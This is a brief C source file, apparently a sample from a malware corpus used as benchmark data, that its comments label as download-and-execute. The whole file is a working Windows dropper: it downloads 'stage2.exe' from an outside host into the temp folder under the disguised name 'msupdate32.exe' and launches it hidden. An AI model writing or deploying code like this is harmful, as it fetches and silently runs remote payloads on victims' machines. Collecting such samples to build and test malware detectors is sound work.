// maljan-corpus: downloads a second stage to %TEMP% and runs it.
// behaviour: download-and-execute
// imports: urlmon.dll!URLDownloadToFileA shell32.dll!ShellExecuteA kernel32.dll!GetTempPathA
// link: -lurlmon -lshell32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <urlmon.h>
#include <shellapi.h>
#include <string.h>

int main(void) {
    char path[MAX_PATH];
    GetTempPathA(MAX_PATH, path);
    strcat(path, "msupdate32.exe");
    HRESULT hr = URLDownloadToFileA(NULL, "http://cdn-update-service.top/files/stage2.exe", path, 0, NULL);
    if (FAILED(hr)) return 1;
    ShellExecuteA(NULL, "open", path, NULL, NULL, SW_HIDE);
    return 0;
}
